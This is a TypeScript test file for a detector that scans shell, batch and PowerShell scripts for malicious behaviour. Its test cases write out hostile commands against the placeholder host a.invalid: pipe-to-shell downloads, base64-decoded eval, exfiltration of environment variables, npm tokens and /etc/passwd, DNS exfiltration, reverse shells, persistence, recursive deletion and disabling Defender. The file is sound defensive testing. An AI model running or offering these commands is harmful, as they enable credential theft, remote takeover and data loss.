import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { parseShell } from '../../../src/analyze/shell/parse.ts'
import { powershellSignals } from '../../../src/analyze/shell/powershell.ts'
import { shellSignals } from '../../../src/analyze/shell/signals.ts'

const signals = (text: string) => shellSignals(parseShell(text).commands, { file: 'x.sh' })
const kinds = (text: string) => [...new Set(signals(text).map(({ kind }) => kind))]
const argsOf = (text: string, kind: string) => signals(text).find((signal) => signal.kind === kind)?.args

test('a fetch names its host, however it is spelled', () => {
  for (const text of [
    'curl -s https://a.invalid/x',
    'C=curl; $C "https://a.invalid"',
    'wget -qO- a.invalid/x',
    'exec 3<>/dev/tcp/a.invalid/80',
    'nc a.invalid 80',
    'git clone https://u@a.invalid/r.git',
    'certutil -urlcache -f http://a.invalid/x y.exe',
  ]) {
    const found = signals(text).find(({ kind }) => kind.startsWith('network/'))
    assert.is(found?.args['host'], 'a.invalid', text)
  }
})

test('raw connections and look-ups are told apart from requests', () => {
  assert.ok(kinds('nc a.invalid 80').includes('network/socket'))
  assert.ok(kinds('exec 3<>/dev/tcp/a.invalid/80').includes('network/socket'))
  assert.equal(kinds('nslookup a.invalid'), ['network/lookup'])
  assert.equal(kinds('curl a.invalid'), ['network/request'])
})

test('no fetch: words that look like one', () => {
  for (const text of ['echo curl https://a.invalid', 'git status', 'certutil -hashfile x', 'rm curl', 'node curl.js']) {
    assert.equal(
      kinds(text).filter((kind) => kind.startsWith('network/')),
      [],
      text,
    )
  }
})

test('what is fetched and run, on every way', () => {
  for (const text of [
    'curl https://a.invalid | sh',
    'curl https://a.invalid | sudo bash',
    'curl https://a.invalid | tee x | bash -s',
    'eval "$(curl https://a.invalid)"',
    'bash <(wget -qO- https://a.invalid)',
    'sh -c "$(curl https://a.invalid)"',
    '$(curl https://a.invalid)',
    'curl https://a.invalid/x -o x && chmod +x x',
    'wget https://a.invalid/x.js; node x.js',
    'curl https://a.invalid/p > p.py; python p.py',
    'nc a.invalid 443 | sh',
  ]) {
    const args = argsOf(text, 'flow/run')
    assert.equal(args?.['from'], ['network'], text)
    assert.is(args?.['host'], 'a.invalid', text)
  }
})

test('fetched and not run', () => {
  for (const text of [
    'curl https://a.invalid | tar xz',
    'curl https://a.invalid/data.json | node transform.js',
    'curl https://a.invalid -o x.tgz && tar xf x.tgz',
    'curl https://a.invalid/x; node y.js',
    'curl https://a.invalid/x.txt -o x.txt && chmod 644 x.txt',
  ]) {
    assert.not.ok(kinds(text).includes('flow/run'), text)
  }
})

test('what was encoded and is run', () => {
  for (const text of [
    'echo aGk= | base64 -d | sh',
    'eval $(echo 6869 | xxd -r -p)',
    'openssl enc -d -in x | bash',
    'echo ih | rev | sh',
  ]) {
    assert.equal(argsOf(text, 'flow/run')?.['from'], ['decoded'], text)
  }
  assert.not.ok(kinds('base64 -d x > y').includes('flow/run'))
})

test('what leaves the machine, on every way', () => {
  const from = (text: string) => argsOf(text, 'flow/send')?.['from']
  assert.equal(from('curl https://a.invalid/$(whoami)'), ['user'])
  assert.equal(from('curl https://a.invalid -d "$(env)"'), ['env'])
  assert.equal(from('env | curl -d @- https://a.invalid'), ['env'])
  assert.equal(from('curl https://a.invalid/?u=$USER'), ['user'])
  assert.equal(from('curl https://a.invalid -H "x: $NPM_TOKEN"'), ['env-secret'])
  assert.equal(from('A=$(hostname); B=x-$A; dig $B.a.invalid'), ['host'])
  assert.equal(from('pwd | xxd -p | while read x; do dig $x.a.invalid; done'), ['place'])
  assert.equal(from('curl -F f=@$HOME/.npmrc https://a.invalid'), ['place', 'secret'])
  assert.equal(from('wget --post-file=/etc/passwd https://a.invalid'), ['secret'])
  assert.equal(from('ping -n 1 %COMPUTERNAME%.a.invalid'), ['host'])
  assert.is(argsOf('dig $(whoami).a.invalid', 'flow/send')?.['host'], '.a.invalid')
})

test('a download that tells nothing of the machine sends nothing', () => {
  for (const text of [
    'curl https://a.invalid/$npm_package_version.tgz -o x',
    'curl https://a.invalid',
    'V=1; curl https://a.invalid/$V',
  ]) {
    assert.not.ok(kinds(text).includes('flow/send'), text)
  }
})

test('acts on the machine', () => {
  const acts: readonly (readonly [string, string])[] = [
    ['cat ~/.ssh/id_rsa', 'secret/read'],
    ['cp $HOME/.npmrc x', 'secret/read'],
    ['echo x >> ~/.bashrc', 'persist/starts'],
    ['(crontab -l; echo "* * * * * x") | crontab -', 'persist/starts'],
    ['launchctl load x.plist', 'persist/starts'],
    ['schtasks /create /tn x', 'persist/starts'],
    ['echo {} > ../../.vscode/tasks.json', 'autorun/write'],
    ['cp w.yml $INIT_CWD/.github/workflows/w.yml', 'autorun/write'],
    ['npm publish', 'publish/package'],
    ['git push origin main', 'publish/package'],
    ['npm install left-pad', 'install/package'],
    ['./xmrig -o pool.invalid', 'miner/config'],
    ['rm -rf ~/', 'file/delete'],
    ['rm -rf / --no-preserve-root', 'file/delete'],
    ['rm -rf ../../src', 'file/delete'],
    ['killall Wireshark', 'tamper/security'],
    ['setenforce 0', 'tamper/security'],
    ['nohup node x.js &', 'process/hidden'],
    ['sh x.sh > /dev/null 2>&1', 'process/hidden'],
    ['xdg-open https://a.invalid', 'page/open'],
    ['bash -i >& /dev/tcp/a.invalid/1 0>&1', 'flow/shell'],
    ['nc -e /bin/sh a.invalid 1', 'flow/shell'],
    ['echo x > ../other/index.js', 'tamper/package'],
    ['cd build && rm -rf ../../other', 'file/delete'],
    ['claude -p x --dangerously-skip-permissions', 'agent/run'],
    ['rundll32 x.dll,Run', 'code/native'],
  ]
  for (const [text, kind] of acts) assert.ok(kinds(text).includes(kind as never), `${text}: ${kinds(text)}`)
})

test('honest scripts say nothing', () => {
  for (const text of [
    'node-gyp rebuild',
    'rm -rf dist build && mkdir dist',
    'npm run build && node install.js || exit 0',
    'cp -r src/a lib/a',
    'chmod 644 x',
    'test -f x && node x > log.txt 2>&1',
    'prebuild-install || node-gyp rebuild --release',
    'crontab -l',
    'git status',
    'echo "curl | sh"',
    'open ./docs/index.html',
    'kill 1',
    'cd build && rm -rf ../dist && echo x > ../lib/index.js',
    'claude --version',
  ]) {
    assert.equal(kinds(text), [], text)
  }
})

test('PowerShell is searched', () => {
  const found = powershellSignals(
    'iex (New-Object Net.WebClient).DownloadString("https://a.invalid/$env:USERNAME")\nSet-MpPreference -DisableRealtimeMonitoring 1',
    { file: 'x.ps1', line: 3 },
  )
  const at = (kind: string) => found.find((signal) => signal.kind === kind)
  assert.is(at('flow/run')?.args['host'], 'a.invalid')
  assert.equal(at('flow/send')?.args['from'], ['user'])
  assert.is(at('tamper/security')?.line, 4)
  assert.equal(powershellSignals('Get-Content x.txt | Write-Host', { file: 'x.ps1', line: 1 }), [])
})

test('long and hostile texts end', () => {
  for (const text of ['Remove-Item -Recurse '.repeat(5000), 'iwr\n'.repeat(100_000), 'a'.repeat(900_000)]) {
    powershellSignals(text, { file: 'x.ps1', line: 1 })
  }
  assert.is(signals('curl https://a.invalid/$A | sh;'.repeat(2000)).length, 4000)
  signals(`${'a | '.repeat(10_000)}sh`)
})

test('what was decoded into a variable and is run', () => {
  const hidden = Buffer.from('curl https://a.invalid').toString('base64')
  for (const text of [`X=$(echo ${hidden} | base64 -d); eval "$X"`, `X=$(echo ${hidden} | base64 -d) && sh -c "$X"`])
    assert.equal(argsOf(text, 'flow/run')?.['from'], ['decoded'], text)
  assert.is(argsOf('S=$(uname -s | tr A-Z a-z); sh "./install-$S.sh"', 'flow/run'), undefined)
})

test('variables of batch files, and shells by other languages', () => {
  assert.is(
    argsOf('set a=certutil\n%a% -urlcache -f http://a.invalid/x y.exe', 'network/request')?.['host'],
    'a.invalid',
  )
  assert.ok(
    kinds(
      `perl -e 'use IO::Socket; $c=IO::Socket::INET->new("a.invalid:1"); STDIN->fdopen($c,r); system$_ while<>'`,
    ).includes('flow/shell'),
  )
  assert.not.ok(kinds(`perl -e 'use Socket; print inet_ntoa(INADDR_ANY)'`).includes('flow/shell'))
})

test('whom git asks instead', () => {
  assert.ok(
    kinds('git config --global url.https://a.invalid/.insteadOf https://github.com/').includes('persist/starts'),
  )
  assert.not.ok(kinds('git config url.git@github.com:.insteadOf https://github.com/').includes('persist/starts'))
})

test.run()
